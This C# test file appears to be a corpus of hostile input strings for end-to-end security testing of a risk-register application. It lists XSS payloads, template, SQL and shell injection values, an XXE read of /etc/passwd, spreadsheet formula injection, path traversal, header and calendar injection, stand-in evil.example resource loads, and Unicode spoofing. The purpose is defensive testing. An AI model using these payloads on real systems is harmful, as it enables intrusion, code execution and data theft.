namespace PreMortem.E2E.Corpus;

/// <summary>What somebody might type to break a page, a file or a reader. <see cref="Mark"/> stands where the name of the field goes; what runs sets <c>__hostile</c>.</summary>
internal static class HostileStrings
{
    public const string Mark = "§";

    private static readonly string[] Markup =
    [
        "<script>window.__hostile='§'</script>",
        "</script><script>__hostile='§'</script>",
        "<img src=x onerror=\"__hostile='§'\">",
        "<svg onload=__hostile='§'><desc>x",
        "<svg><script>__hostile='§'</script></svg>",
        "<svg><animate onbegin=__hostile='§' attributeName=x dur=1s>",
        "<svg><foreignObject><body onload=__hostile='§'>",
        "<iframe srcdoc=\"<script>parent.__hostile='§'</script>\">",
        "<iframe src=//evil.example/§>",
        "<object data=//evil.example/§><embed src=//evil.example/§>",
        "<style>*{background:url(//evil.example/§)}</style>",
        "<link rel=stylesheet href=//evil.example/§>",
        "<meta http-equiv=refresh content=0;url=//evil.example/§>",
        "<base href=//evil.example/§/>",
        "<form action=//evil.example/§><button>§",
        "<math><mtext></mtext><mglyph><style><img src onerror=__hostile='§'>",
        "<template><x-hostile data-hostile=§></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=__hostile='§'>\">",
        "</textarea><x-hostile data-hostile=§>",
        "</title></style></noscript><x-hostile data-hostile=§>",
        "--><x-hostile data-hostile=§><!--",
        "]]><x-hostile data-hostile=§><![CDATA[",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>§&e;",
        "<?xml-stylesheet href=\"javascript:__hostile='§'\"?>",
        "</svg></text><x-hostile data-hostile=§>",
        "<details open ontoggle=__hostile='§'>x",
        "<video><source onerror=__hostile='§'></video>",
        "<input autofocus onfocus=__hostile='§'>",
        "<listing>&lt;img onerror=__hostile='§' src=x&gt;</listing>",
        "<p id=room data-as=leader data-hostile=§>",
    ];

    private static readonly string[] Quotes =
    [
        "\" onmouseover=\"__hostile='§'\" data-hostile=\"§",
        "' autofocus onfocus='__hostile=1' data-hostile='§",
        "\"><x-hostile data-hostile=§>",
        "'/><x-hostile data-hostile=§>",
        "` onclick=__hostile='§' `",
        "javascript:__hostile='§'",
        "JaVa\tScRiPt:__hostile='§'",
        "data:text/html,<script>__hostile='§'</script>",
        "vbscript:msgbox(§)",
        "//evil.example/§",
        "https://evil.example/§?a=1&b=2",
        "&lt;script&gt;__hostile='§'&lt;/script&gt;",
        "&amp;lt;img src=x onerror=__hostile='§'&amp;gt;",
        "%3Cscript%3E__hostile='§'%3C/script%3E",
        "\\u003cscript\\u003e__hostile='§'\\u003c/script\\u003e",
        "{{constructor.constructor('__hostile=§')()}}",
        "${__hostile='§'} #{§} <%= § %>",
        "@(1+1) @Html.Raw(\"§\") @{ var x = §; }",
        "{\"§\":\"</script><x-hostile>\",\"__proto__\":{}}",
        "';__hostile='§';//",
        "\\\";__hostile='§';//",
        "{initiative} {date} {aim} § {minutes}",
        "'; DROP TABLE risk; -- §",
        "$(touch /tmp/§) `id` | cat && x",
    ];

    private static readonly string[] Markdown =
    [
        "[§](javascript:__hostile=1)",
        "![§](//evil.example/§.png)",
        "[§]: javascript:__hostile=1 \"x\"",
        "<javascript:__hostile='§'>",
        "<https://evil.example/§> mail@evil.example",
        "§\n===\n\n# §\n\n---",
        "| § | b |\n|---|---|\n| <b>c</b> | \\| |",
        "```html\n<x-hostile data-hostile=§>\n```",
        "~~~\n§\n~~~\n    code",
        "---\nschema: premortem-register/9\ntitle: §\n---",
        "- [ ] §\n  1. x\n     > y",
        "\\<b>§\\\\ \\` * _ ~ ^ | # + -",
        "**§** __x__ *y* ~~z~~ <!-- premortem -->",
        "## R1 · §",
        "<!-- premortem:risk R1 --> §",
        "[x][§] [^1] [[§]] :smile: @evil #1",
        "&#x3C;x-hostile data-hostile=§&#x3E; &colon; &NewLine;",
        "```mermaid\ngraph TD; A[\"§\"]-->B; click A href \"javascript:__hostile=1\"\n```",
        "§\"]; click P1 call __hostile(); %%{init: {'securityLevel':'loose'}}%%",
    ];

    private static readonly string[] Files =
    [
        "=cmd|' /C calc'!§",
        "+HYPERLINK(\"http://evil.example/§\")",
        "-2+3+cmd|§",
        "@SUM(1+1)*§",
        "\t=1+1 §",
        "\r=1+1 §",
        "＝1+1 §",
        "＠SUM(§)",
        " \u00a0=1+1 §",
        "\u200b=1+1 §",
        "\"=1+1\",§",
        "';=1+1;§",
        "§\r\nBEGIN:VEVENT\r\nSUMMARY:taken over\r\nEND:VEVENT",
        "§\nATTACH:file:///etc/passwd",
        "§\\n\\,\\;\\\\ , ; : \"quoted\"",
        "§\r\n\r\nContent-Type: text/html\r\n\r\n<x-hostile>",
        "../../../../etc/§",
        "..\\..\\windows\\§.exe",
        "CON",
        "nul.txt §",
        "§.svg\"; filename=\"§.html",
        "§\u2028BEGIN:VALARM\u2029\u0085X:1",
        ".htaccess §",
        "~ § $HOME %PATH%",
    ];

    private static readonly string[] Letters =
    [
        "\u202eevil txt.§ turned\u202c",
        "\u202e never closed §",
        "\u2067 isolate never closed §",
        "\u2069\u2069\u2069 closed too often §",
        "\u202d\u202e\u2066\u2067\u2068 § five opened",
        "الخطة فشلت § في مايو",
        "התוכנית נכשלה (§) במאי",
        "\u200b\u200c\u200d\u2060\ufeff§\u00ad\u180e",
        "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324§a\u0335\u0323\u0349\u0318l\u0360\u0348g\u0321\u032co\u035c\u0353",
        "👩🏽\u200d🏫🏳️\u200d🌈🇺🇳 § 𝒩𝑜𝒷\U000e0041\U000e007f",
        "раураl ɡооɡle § Ω≈ç√ ﬀ Ⅷ",
        "\u0000nul\u0000 §",
        "§ \u0001\u0007\u0008\u001b[31m\u007f\u0080\u009f",
        "\ufffe\uffff\ufdd0 § \U0001ffff",
        "§" + "Pneumonoultramicroscopicsilicovolcanoconiosis",
        "§ " + new string('W', 70),
        "§ 👉 ﷽﷽﷽ 𒐫𒐫 ௵",
        "   § outside   spaces   ",
        "\u3000§\u3000\u2003\u00a0",
        "İıſK § ǅ ß",
        "undefined null NaN true [] § {}",
        "0 -1 1e309 0x§",
    ];

    public static IReadOnlyList<string> All { get; } = [.. Markup, .. Quotes, .. Markdown, .. Files, .. Letters];
}
